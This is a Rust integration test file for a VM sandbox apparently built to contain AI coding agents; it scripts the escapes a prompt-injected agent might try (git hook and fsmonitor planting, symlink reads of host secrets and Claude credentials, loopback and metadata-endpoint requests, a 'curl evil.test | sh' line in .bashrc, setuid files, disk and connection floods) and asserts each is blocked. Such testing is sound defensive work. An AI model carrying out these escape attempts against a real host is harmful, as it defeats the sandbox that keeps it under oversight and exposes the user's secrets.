//! A hostile guest against the host, end to end: the escapes a prompt-injected agent would try
//! from inside a session, checked on the host side after it. Full stack on both engines.

mod common;

use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::{arg, describe, engine, nested_scale, processes_marked, text, Env};

/// Runs host git in `dir` and says what it printed.
fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(["-c", "user.name=host", "-c", "user.email=host@example.com"])
        .args(args)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {}", text(&out.stderr));
    text(&out.stdout)
}

#[test]
fn git_works_in_the_guest_but_cannot_plant_code_for_the_host() {
    let Some(env) = Env::debian() else { return };
    let home = env.home.path();
    let project = home.join("project");
    let remote = home.join("remote.git");
    std::fs::create_dir_all(&project).unwrap();
    git(&project, &["init", "-q", "-b", "main"]);
    std::fs::write(project.join("a.txt"), "one\n").unwrap();
    git(&project, &["add", "a.txt"]);
    git(&project, &["commit", "-qm", "base"]);
    git(home, &["clone", "-q", "--bare", arg(&project), arg(&remote)]);
    // What host git runs code from outside .git: husky's hooks path and an included file.
    git(&project, &["config", "core.hooksPath", ".husky/_"]);
    git(&project, &["config", "include.path", "../.gitconfig-project"]);
    std::fs::create_dir_all(project.join(".husky")).unwrap();
    std::fs::write(project.join(".husky/pre-commit"), "npm test\n").unwrap();
    std::fs::write(project.join(".gitconfig-project"), "[user]\n").unwrap();
    let upstream = git(&remote, &["commit-tree", "-m", "upstream", "HEAD^{tree}", "-p", "HEAD"]);
    git(&remote, &["update-ref", "refs/heads/main", upstream.trim()]);
    let config = std::fs::read(project.join(".git/config")).unwrap();
    let hooks = || {
        let mut names: Vec<_> = std::fs::read_dir(project.join(".git/hooks")).unwrap().map(|e| e.unwrap().file_name()).collect();
        names.sort();
        names
    };
    let hooks_before = hooks();

    let script = r##"
        t() { label=$1; shift; if "$@" >/dev/null 2>&1; then echo "$label ok"; else echo "$label refused"; fi; }
        git config --global user.name guest; git config --global user.email guest@example.com
        t commit sh -c 'echo two > a.txt && git commit -qam two'
        t branch git checkout -q -b feature
        t feature-commit sh -c 'echo three > b.txt && git add b.txt && git commit -qm three'
        t main-commit sh -c 'git checkout -q main && echo four > c.txt && git add c.txt && git commit -qm four && git checkout -q feature'
        t rebase git rebase -q main
        t fetch git fetch -q /remote main:refs/remotes/upstream/main
        t worktree-list git worktree list
        t fsmonitor git config core.fsmonitor 'touch /tmp/pwned'
        t config-append sh -c 'echo "[core] hooksPath = /tmp" >> .git/config'
        t hook sh -c 'printf "#!/bin/sh\ntouch /tmp/pwned\n" > .git/hooks/post-checkout'
        t nested-init git init -q nested
        t dot-git-file sh -c 'mkdir -p other && echo "gitdir: /tmp" > other/.git'
        t bare-init git init -q --bare sub.git
        t bare-by-hand sh -c 'mkdir -p hand/objects hand/refs && echo "ref: refs/heads/main" > hand/HEAD'
        t hooks-path sh -c 'mkdir -p .husky/_ && printf "#!/bin/sh\ntouch /tmp/pwned\n" > .husky/_/pre-commit'
        t husky-hook sh -c 'echo "touch /tmp/pwned" >> .husky/pre-commit'
        t include sh -c 'echo "[core] fsmonitor = touch /tmp/pwned" >> .gitconfig-project'
    "##;
    let engine = engine();
    let mount = format!("{}:/remote:ro", remote.display());
    let out = env.run(engine, &[arg(&project), "--mount", &mount, "--", "sh", "-c", script], b"");
    let stdout = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "[{engine}] {stdout} {}", text(&out.stderr));
    let expected = "commit ok\nbranch ok\nfeature-commit ok\nmain-commit ok\nrebase ok\nfetch ok\nworktree-list ok\n\
                    fsmonitor refused\nconfig-append refused\nhook refused\nnested-init refused\ndot-git-file refused\n\
                    bare-init refused\nbare-by-hand refused\nhooks-path refused\nhusky-hook refused\ninclude refused\n";
    assert_eq!(stdout, expected, "[{engine}] {}", text(&out.stderr));

    // The guest's history is the host's; its control files are as they were.
    assert_eq!(git(&project, &["log", "--format=%s", "feature"]), "three\nfour\ntwo\nbase\n", "[{engine}]");
    assert_eq!(git(&project, &["rev-parse", "upstream/main"]), git(&remote, &["rev-parse", "main"]), "[{engine}]");
    assert_eq!(std::fs::read(project.join(".git/config")).unwrap(), config, "[{engine}] .git/config changed");
    assert_eq!(hooks(), hooks_before, "[{engine}] hooks changed");
    assert!(!project.join("nested/.git").exists() && !project.join("other/.git").exists(), "[{engine}]");
    for dir in ["sub.git", "hand"] {
        // Host git, kept from looking above the directory, finds no repository in it.
        let found = Command::new("git")
            .arg("-C")
            .arg(project.join(dir))
            .args(["rev-parse", "--git-dir"])
            .env("GIT_CEILING_DIRECTORIES", &project)
            .output()
            .unwrap();
        assert!(!found.status.success(), "[{engine}] host git found a repository in {dir}: {}", text(&found.stdout));
        assert!(!(project.join(dir).join("HEAD").exists() && project.join(dir).join("objects").exists()), "[{engine}] {dir}");
    }
    assert!(!project.join(".husky/_").exists(), "[{engine}]");
    assert_eq!(std::fs::read_to_string(project.join(".husky/pre-commit")).unwrap(), "npm test\n", "[{engine}]");
    assert_eq!(std::fs::read_to_string(project.join(".gitconfig-project")).unwrap(), "[user]\n", "[{engine}]");
    git(&project, &["status", "--short"]);
    env.assert_clean();
}

#[test]
fn files_the_guest_plants_in_the_project_do_not_widen_the_next_session() {
    let Some(env) = Env::new() else { return };
    let project = env.home.path().join("project");
    std::fs::create_dir_all(&project).unwrap();
    let secret = env.home.path().join("secret");
    std::fs::write(&secret, "host secret\n").unwrap();
    let script = format!(
        "printf '[[mounts]]\\nhost = \"~\"\\n[network]\\nmode = \"open\"\\n' > .cvm.toml && ln -s {} .cvm.runtime.sh && echo planted",
        secret.display()
    );
    let engine = engine();
    let out = env.run(engine, &[arg(&project), "--", "sh", "-c", &script], b"");
    assert_eq!(text(&out.stdout), "planted\n", "[{engine}] {}", text(&out.stderr));

    // The next session refuses the planted configuration before any VM starts.
    let out = env.run(engine, &[arg(&project), "--", "cat", "/etc/hostname"], b"");
    assert_eq!(out.status.code(), Some(125), "[{engine}] {}", text(&out.stdout));
    assert!(
        text(&out.stderr).contains("sets mounts, network.mode, which widen the sandbox, and is not trusted"),
        "[{engine}] {}",
        text(&out.stderr)
    );
    // Without it, the planted runtime script is a link out of the project, and is not read.
    std::fs::remove_file(project.join(".cvm.toml")).unwrap();
    let out = env.run(engine, &[arg(&project), "--", "true"], b"");
    assert_eq!(out.status.code(), Some(125), "[{engine}] {}", text(&out.stdout));
    assert!(text(&out.stderr).contains("a symbolic link leads out of"), "[{engine}] {}", text(&out.stderr));
    assert!(!text(&out.stdout).contains("host secret"));
    env.assert_clean();
}

#[test]
fn a_shared_home_keeps_its_dot_files_and_cvm_s_own() {
    let Some(env) = Env::new() else { return };
    let home = env.home.path();
    std::fs::write(home.join(".bashrc"), "# the user's\n").unwrap();
    let script = r#"
        t() { label=$1; shift; if "$@" >/dev/null 2>&1; then echo "$label ok"; else echo "$label refused"; fi; }
        t cvm-toml sh -c 'printf "[network]\nmode = \"open\"\n" >> .cvm.toml'
        t bashrc sh -c 'echo "curl evil.test | sh" >> .bashrc'
        t authorized-keys sh -c 'mkdir -p .ssh && echo key >> .ssh/authorized_keys'
        t gitconfig sh -c 'printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" > .gitconfig'
        t profile-by-rename sh -c 'echo evil > p && mv p .profile'
        t plain-file sh -c 'echo mine > notes.txt'
    "#;
    let engine = engine();
    let out = env.run(engine, &[arg(home), "--", "sh", "-c", script], b"");
    assert_eq!(out.status.code(), Some(0), "[{engine}] {}", text(&out.stderr));
    let expected =
        "cvm-toml refused\nbashrc refused\nauthorized-keys refused\ngitconfig refused\nprofile-by-rename refused\nplain-file ok\n";
    assert_eq!(text(&out.stdout), expected, "[{engine}] {}", text(&out.stderr));
    assert_eq!(std::fs::read_to_string(home.join(".bashrc")).unwrap(), "# the user's\n", "[{engine}]");
    for planted in [".cvm.toml", ".ssh", ".gitconfig", ".profile"] {
        assert!(!home.join(planted).exists(), "[{engine}] {planted} was made");
    }
    assert_eq!(
        std::fs::read_to_string(home.join("notes.txt")).unwrap(),
        "mine\n",
        "[{engine}] the rest of the home is the guest's to write"
    );
    env.assert_clean();
}

/// The thread names of process `pid` under a seccomp filter, and those not, each sorted once.
fn threads_by_filter(pid: u32) -> (Vec<String>, Vec<String>) {
    let (mut filtered, mut unfiltered) = (Vec::new(), Vec::new());
    for task in std::fs::read_dir(format!("/proc/{pid}/task")).unwrap().flatten() {
        let comm = std::fs::read_to_string(task.path().join("comm")).unwrap_or_default().trim().to_string();
        // KVM's own worker (NX huge page recovery) is a kernel thread; the command's stdin
        // reader ends with its stdin, here at once.
        if comm.starts_with("kvm-") || comm == "exec-stdin" {
            continue;
        }
        let status = std::fs::read_to_string(task.path().join("status")).unwrap_or_default();
        if status.lines().any(|l| l == "Seccomp:\t2") { &mut filtered } else { &mut unfiltered }.push(comm);
    }
    for names in [&mut filtered, &mut unfiltered] {
        names.sort();
        names.dedup();
    }
    (filtered, unfiltered)
}

#[test]
fn killing_cvm_at_any_moment_leaves_no_helper_running() {
    let Some(env) = Env::new() else { return };
    let project = env.home.path().join("project");
    std::fs::create_dir_all(project.join("sub")).unwrap();
    // Every helper names a path of this test's: the fs backends their share, QEMU and the
    // janitor the session's directory under the private XDG_RUNTIME_DIR.
    let markers = [env.home.path().display().to_string(), env.runtime.path().display().to_string()];
    let alive = || markers.iter().flat_map(|m| processes_marked(m)).map(describe).collect::<Vec<_>>();
    let engine = engine();
    // Kill points spread over start-up, the command and teardown of a session that takes
    // about a second on the QEMU engine here.
    let span = nested_scale(Duration::from_millis(2000)).as_micros() as u64;
    let mut seed = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos() as u64 | 1;
    eprintln!("kill points from seed {seed}");
    let mut survivors = Vec::new();
    for round in 0..100 {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        let delay = Duration::from_micros(seed % span);
        let mut child = env.command(
            engine,
            &[arg(&project), "--mount", &format!("{}:/mnt/sub", project.join("sub").display()), "--", "sh", "-c", "sleep 0.2"],
        );
        let mut child = child.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
        std::thread::sleep(delay);
        child.kill().unwrap();
        child.wait().unwrap();
        let deadline = Instant::now() + nested_scale(Duration::from_secs(5));
        while !alive().is_empty() && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(20));
        }
        let left = alive();
        if !left.is_empty() {
            survivors.push(format!("round {round}, killed after {delay:?}: {left:?}"));
            for line in left {
                let pid: i32 = line.split(' ').next().unwrap().parse().unwrap();
                // SAFETY (test): SIGKILL to a helper this test's cvm left behind.
                unsafe { libc::kill(pid, libc::SIGKILL) };
            }
        }
    }
    assert!(survivors.is_empty(), "[{engine}] helpers outlived a killed cvm:\n{}", survivors.join("\n"));
    env.assert_clean();
}

#[test]
fn a_command_that_ignores_sigterm_cannot_hold_cvm() {
    let Some(env) = Env::new() else { return };
    let engine = engine();
    let mut child = env
        .command(engine, &["--", "sh", "-c", "trap '' TERM; echo ready; while :; do sleep 1; done"])
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdout = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    std::io::BufRead::read_line(&mut stdout, &mut line).unwrap();
    assert_eq!(line, "ready\n", "[{engine}]");
    // Every thread of cvm that serves the guest runs under its role's seccomp filter: the
    // vsock backend's, the listeners' (the egress proxy's among them) and the command's relay.
    // Only the session's own thread and the console log's writer do not.
    let (filtered, unfiltered) = threads_by_filter(child.id());
    assert_eq!(filtered, ["cvm-vsock", "exec-relay", "listen", "vring_worker", "vsock-vhost-use"], "[{engine}]");
    assert_eq!(unfiltered, ["console-log", "cvm"], "[{engine}]");
    if engine == "cvm" {
        // cvm's VMM is a process of its own (its PID namespace's init), and every thread of it
        // is filtered: its control thread, the event loop, the vCPUs, the disks' I/O.
        let vmm: Vec<u32> = processes_marked(&env.home.path().display().to_string())
            .into_iter()
            .filter(|pid| {
                std::fs::read_to_string(format!("/proc/{pid}/status"))
                    .is_ok_and(|s| s.lines().any(|l| l.starts_with("NSpid:") && l.ends_with("\t1")))
            })
            .collect();
        assert_eq!(vmm.len(), 1, "[{engine}] one VMM process: {vmm:?}");
        let (filtered, unfiltered) = threads_by_filter(vmm[0]);
        for thread in ["cvm", "vm", "vcpu0", "vcpu1"] {
            assert!(filtered.iter().any(|t| t == thread), "[{engine}] the VMM's {thread} thread is not filtered: {filtered:?}");
        }
        assert!(unfiltered.is_empty(), "[{engine}] VMM threads without a filter: {unfiltered:?}");
    }
    let sent = Instant::now();
    // SAFETY (test): SIGTERM to our own child.
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let out = common::wait_output(child);
    assert_eq!(out.status.code(), Some(143), "[{engine}] {}", text(&out.stderr));
    assert!(text(&out.stderr).contains("did not end within 10s of signal 15"), "[{engine}] {}", text(&out.stderr));
    assert!(sent.elapsed() < nested_scale(Duration::from_secs(25)), "[{engine}] {:?}", sent.elapsed());
    env.assert_clean();
}

/// The hostile-guest suite: a script in the guest (the Debian image, as the user, with sudo)
/// tries every escape the security review listed and the classic ones; each attempt succeeds
/// only if it escaped. The host then checks its side. Prints the table (attempts, blocked,
/// escaped) and the cvm process's threads and fds while the guest holds 2000 connections.
#[test]
fn a_hostile_guest_escapes_nothing() {
    let Some(env) = Env::debian() else { return };
    let home = env.home.path();
    let project = home.join("project");
    let read_only = home.join("ro");
    for dir in [&project, &read_only, &home.join(".claude/projects/-other-project")] {
        std::fs::create_dir_all(dir).unwrap();
    }
    std::fs::write(home.join("secret"), "HOSTSECRET\n").unwrap();
    std::fs::write(home.join(".claude/history.jsonl"), "HISTORY\n").unwrap();
    std::fs::write(home.join(".claude/.credentials.json"), "{}").unwrap();
    std::fs::write(read_only.join("file"), "read only\n").unwrap();
    git(&project, &["init", "-q", "-b", "main"]);
    std::fs::write(project.join("a.txt"), "one\n").unwrap();
    let config = std::fs::read(project.join(".git/config")).unwrap();
    let project_bytes = || -> u64 { walk(&project).iter().filter(|(_, meta)| meta.is_file()).map(|(_, meta)| meta.len()).sum() };
    let bytes_before = project_bytes();
    let (loopback, _) = common::http_server("LOOPBACK-REACHED");
    let (allowed, hosts_seen) = common::http_server("ALLOWED-REACHED");

    let script = r##"
        n=0; blocked=0; escaped=0
        try() { name=$1; shift; n=$((n+1)); if "$@" >/dev/null 2>&1; then escaped=$((escaped+1)); echo "attempt $name: ESCAPED"; else blocked=$((blocked+1)); echo "attempt $name: blocked"; fi; }
        get() { curl -sf --max-time 10 "$@"; }
        try symlink-absolute sh -c 'ln -s @SECRET@ l1 && grep -q HOSTSECRET l1'
        try symlink-relative sh -c 'ln -s ../secret l2 && grep -q HOSTSECRET l2'
        try dot-dot grep -q HOSTSECRET ../secret
        try claude-history grep -q HISTORY ~/.claude/history.jsonl
        try claude-other-projects sh -c 'ls -a ~/.claude/projects | grep -q other-project'
        try hard-link-to-config sh -c 'ln .git/config cfg && echo "[core] fsmonitor = touch /tmp/pwned" >> cfg'
        try truncate-config truncate -s 0 .git/config
        try o-trunc-config sh -c ': > .git/config'
        try fallocate-config fallocate -l 1M .git/config
        try rename-hooks mv .git/hooks hooks-moved
        try rename-dot-git mv .git dot-git-moved
        try git-config-fsmonitor git config core.fsmonitor 'touch /tmp/pwned'
        try add-hook sh -c 'echo "#!/bin/sh" > .git/hooks/post-checkout'
        try new-dot-git mkdir -p nested/.git
        try device-node sudo mknod devnode c 1 3
        try setuid-root sh -c 'cp /bin/true suid && sudo chown root:root suid && sudo chmod 4755 suid && [ -u suid ]'
        try read-only-write sh -c 'echo x > /ro/file'
        try read-only-remove rm -f /ro/file
        try read-only-chmod chmod 777 /ro/file
        try credentials-chmod chmod 777 ~/.claude/.credentials.json
        try loopback-literal get http://127.0.0.1:@LOOPBACK@/
        try loopback-v4-mapped get "http://[::ffff:127.0.0.1]:@LOOPBACK@/"
        try loopback-decimal get http://2130706433:@LOOPBACK@/
        try loopback-hex get http://0x7f000001:@LOOPBACK@/
        try loopback-short get http://127.1:@LOOPBACK@/
        try loopback-name get --noproxy '' http://localhost:@LOOPBACK@/
        try loopback-connect get -p http://127.0.0.1:@LOOPBACK@/
        try cloud-metadata get http://169.254.169.254/latest/meta-data/
        try host-header-fronting get -H 'Host: evil.test' http://allowed.test:@ALLOWED@/
        try not-allowed-name get http://example.com/
        try mapped-name-other-port get http://allowed.test:@LOOPBACK@/
        try chown-to-another-user sudo chown 4242 a.txt
        try borrow-host-objects sh -c 'mkdir -p .git/objects/info && echo /root/private/.git/objects > .git/objects/info/alternates'
        try fill-the-disk fallocate -l 2G filler
        try sparse-8t truncate -s 8T sparse
        try quota-by-many-writes sh -c 'for i in 1 2 3 4 5; do head -c 16M /dev/zero > many$i || exit 1; done'
        try mapped-name-connect-other-port get -p http://allowed.test:@LOOPBACK@/
        # 2000 connections to the proxy, held.
        ulimit -n 4096 2>/dev/null || ulimit -n "$(ulimit -Hn)"
        proxy=${HTTP_PROXY#http://}; i=0
        while [ $i -lt 2000 ] && exec {fd}<>/dev/tcp/${proxy%:*}/${proxy#*:}; do i=$((i+1)); done 2>/dev/null
        echo "FLOOD-HELD $i"
        # Past the cap the guest is told no; once the held connections' 10 s for a request
        # head are up, the proxy serves again (within a minute, however slow this host: in
        # L1 the closes of 2000 connections take a while to come through).
        sleep 12
        try proxy-down-after-flood sh -c 'for t in 1 2 3 4; do curl -sf --max-time 20 http://allowed.test:@ALLOWED@/ | grep -q ALLOWED-REACHED && exit 1; sleep 5; done'
        echo "attempts $n, blocked $blocked, escaped $escaped"
    "##
    .replace("@SECRET@", &home.join("secret").display().to_string())
    .replace("@LOOPBACK@", &loopback.to_string())
    .replace("@ALLOWED@", &allowed.to_string());
    let engine = engine();
    let mount = format!("{}:/ro:ro", read_only.display());
    let mut child = env
        .command(
            engine,
            &[
                arg(&project),
                "--mount",
                &mount,
                "--add-host",
                "allowed.test:127.0.0.1",
                "--allow",
                &format!("allowed.test:{allowed}"),
                "--share-quota",
                "64M",
                "--",
                "bash",
                "-c",
                &script,
            ],
        )
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    let pid = child.id();
    let stdout = std::io::BufReader::new(child.stdout.take().unwrap());
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in std::io::BufRead::lines(stdout) {
            let _ = tx.send(line.unwrap_or_default() + "\n");
        }
    });
    let mut lines = Vec::new();
    let mut under_flood = String::new();
    let deadline = Instant::now() + common::deadline();
    loop {
        let line = match rx.recv_timeout(deadline.saturating_duration_since(Instant::now())) {
            Ok(line) => line,
            Err(std::sync::mpsc::RecvTimeoutError::Disconnected) => break,
            Err(std::sync::mpsc::RecvTimeoutError::Timeout) => {
                let _ = child.kill();
                panic!("[{engine}] the hostile guest's session hung: {}", lines.concat());
            }
        };
        if let Some(held) = line.strip_prefix("FLOOD-HELD ") {
            std::thread::sleep(Duration::from_secs(1));
            let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
            let threads = status.lines().find_map(|l| l.strip_prefix("Threads:")).unwrap_or("?").trim().to_string();
            let fds = std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, |d| d.count());
            under_flood = format!("{} guest connections held: cvm has {threads} threads and {fds} fds", held.trim());
        }
        lines.push(line);
    }
    let out = common::wait_output(child);
    let table = lines.concat();
    eprintln!("[{engine}] hostile guest:\n{table}{under_flood}");
    assert_eq!(out.status.code(), Some(0), "[{engine}] {table} {}", text(&out.stderr));
    let summary = lines.last().unwrap();
    assert!(summary.starts_with("attempts 38, blocked 38, escaped 0"), "[{engine}] {table}");
    assert!(!under_flood.is_empty(), "[{engine}] the flood was not held: {table}");

    // The host's side.
    assert_eq!(std::fs::read(project.join(".git/config")).unwrap(), config, "[{engine}]");
    assert_eq!(std::fs::read_to_string(read_only.join("file")).unwrap(), "read only\n", "[{engine}]");
    let added = project_bytes() - bytes_before;
    let owner = |path: &Path| std::os::unix::fs::MetadataExt::uid(&std::fs::metadata(path).unwrap());
    assert_eq!(owner(&project.join("a.txt")), owner(&project), "[{engine}] a.txt was given away");
    assert!(!project.join(".git/objects/info/alternates").exists(), "[{engine}]");
    assert!(added <= 64 << 20, "[{engine}] the guest added {added} bytes past its 64 MiB quota");
    assert!(text(&out.stderr).contains("reached its quota on the share"), "[{engine}] cvm says so: {}", text(&out.stderr));
    assert!(!hosts_seen.lock().unwrap().iter().any(|h| h.contains("evil")), "[{engine}] {:?}", hosts_seen.lock().unwrap());
    for (path, meta) in walk(&project) {
        use std::os::unix::fs::{FileTypeExt, PermissionsExt};
        assert!(meta.permissions().mode() & 0o6000 == 0, "[{engine}] {} is set-id on the host", path.display());
        assert!(!meta.file_type().is_char_device() && !meta.file_type().is_block_device(), "[{engine}] {} is a device", path.display());
        assert!(!path.ends_with("nested/.git"), "[{engine}]");
    }
    env.assert_clean();
}

/// Every entry below `dir`, not following symbolic links.
fn walk(dir: &Path) -> Vec<(std::path::PathBuf, std::fs::Metadata)> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let meta = entry.path().symlink_metadata().unwrap();
        if meta.is_dir() {
            out.extend(walk(&entry.path()));
        }
        out.push((entry.path(), meta));
    }
    out
}
